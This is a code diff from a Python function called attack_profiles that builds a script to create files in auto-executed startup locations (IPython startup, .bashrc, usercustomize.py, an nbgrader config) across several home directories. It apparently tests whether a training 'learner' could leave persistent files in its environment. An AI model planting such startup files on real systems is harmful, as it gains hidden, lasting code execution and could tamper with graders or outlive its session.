@@ -34,7 +34,8 @@ def attack_profiles(work: Any) -> None:
     work.add("""import os
 home = os.path.expanduser("~")
 for path in (".ipython/profile_default/startup/00-left-by-a-learner.py", ".config/matplotlib/matplotlibrc", ".bashrc",
-             ".cache/torch/left-by-a-learner", ".jupyter/nbgrader_config.py", ".local/lib/python3.11/site-packages/usercustomize.py"):
+             ".cache/torch/left-by-a-learner", ".jupyter/nbgrader_config.py",
+             ".local/lib/python3.11/site-packages/usercustomize.py"):
     for base in (home, "/root", "/home", os.environ.get("IPYTHONDIR", "/x")):
         try:
             os.makedirs(os.path.dirname(os.path.join(base, path)), exist_ok=True)
